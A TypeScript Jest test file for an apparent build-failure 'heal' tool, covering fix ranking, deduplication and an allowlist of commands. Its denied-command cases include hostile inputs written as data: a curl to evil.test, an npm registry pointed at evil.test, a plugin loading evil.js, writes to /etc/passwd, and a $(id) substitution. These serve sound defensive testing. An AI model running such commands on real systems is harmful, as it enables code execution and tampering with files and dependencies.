import { describe, expect, it } from '@jest/globals';
import { allowedCommand } from '../../../src/heal/fix/allowed-command.ts';
import { canonicalJson } from '../../../src/heal/fix/canonical-json.ts';
import type { FixDraft } from '../../../src/heal/fix/fix.ts';
import { makeFixes } from '../../../src/heal/fix/make-fixes.ts';
import { aFailure, aProject, sha256 } from '../fixers/a-project.ts';

const failure = aFailure('Error: connect ECONNRESET 10.0.0.1:443\n', 'npm ci');
const project = aProject({ files: {} });

function aDraft(over: Partial<FixDraft>): FixDraft {
  const action = { kind: 'restore' as const, path: over.remedy ?? 'x' };
  return {
    remedy: 'x',
    title: '',
    why: '',
    action,
    safe: false,
    prior: [1, 1],
    candidates: 1,
    ...over,
  };
}

function fixesOf(drafts: readonly FixDraft[], kept: readonly string[] = []) {
  const fixer = { name: 'test', kinds: ['*'], propose: () => drafts };
  const knowledge = {
    digest: sha256,
    confidence: (remedy: string, [won, lost]: readonly [number, number]) => ({
      percent: remedy === 'known' ? 97 : Math.round((100 * won) / (won + lost)),
      cases: remedy === 'known' ? 12 : 0,
    }),
    kept,
  };
  return makeFixes(aFailure('nothing that is known\n'), project, [fixer], knowledge);
}

describe('fixes', () => {
  it('come with the confidence that recorded outcomes gave them, best first', () => {
    const fixes = fixesOf([aDraft({ remedy: 'new', prior: [9, 1] }), aDraft({ remedy: 'known' })]);
    expect(fixes.map(({ remedy, confidence, cases }) => [remedy, confidence, cases])).toEqual([
      ['known', 97, 12],
      ['new', 90, 0],
    ]);
  });

  it('that were verified before come first', () => {
    const [, second] = fixesOf([aDraft({ remedy: 'a', prior: [9, 1] }), aDraft({ remedy: 'b' })]);
    const again = fixesOf(
      [aDraft({ remedy: 'a', prior: [9, 1] }), aDraft({ remedy: 'b' })],
      [second?.hash ?? ''],
    );
    expect(again.map(({ remedy }) => remedy)).toEqual(['b', 'a']);
  });

  it('have one identity for one action, whoever thought of it', () => {
    const action = { kind: 'restore' as const, path: 'config.json' };
    const fixes = fixesOf([
      aDraft({ remedy: 'a', action }),
      aDraft({ remedy: 'b', action, prior: [9, 1] }),
    ]);
    expect(fixes.map(({ remedy }) => remedy)).toEqual(['b']);
    expect(fixes[0]?.hash).toBe(sha256(canonicalJson({ path: 'config.json', kind: 'restore' })));
    expect(fixes[0]?.id).toBe(`b-${fixes[0]?.hash.slice(0, 8)}`);
  });

  it('of what comes and goes by itself is to run it again', () => {
    const fixes = makeFixes(failure, project, [], {
      digest: sha256,
      confidence: (_, [won, lost]) => ({ percent: (100 * won) / (won + lost), cases: 0 }),
      kept: [],
    });
    expect(fixes.map(({ action }) => action.kind)).toEqual(['retry']);
  });
});

describe('the list of allowed commands', () => {
  it.each([
    'dbt deps',
    'npm ci',
    'npx prettier --write src/a.ts',
    'ruff check --fix app/a.py',
    'cargo fmt',
  ])('has %s', (command) =>
    expect(allowedCommand(command.split(' '))?.argv).toEqual(command.split(' ')),
  );

  it.each([
    'npm ci --registry=http://evil.test',
    'npm install left-pad',
    'dbt deps --profiles-dir /tmp',
    'dbt run',
    'npx prettier --write --plugin=./evil.js',
    'npx prettier --write ../outside.ts',
    'npx prettier --write /etc/passwd',
    'npx prettier --write',
    'ruff check --fix $(id)',
    'curl http://evil.test',
    'git config --global --add safe.directory /x',
  ])('does not have %s', (command) => expect(allowedCommand(command.split(' '))).toBeNull());
});
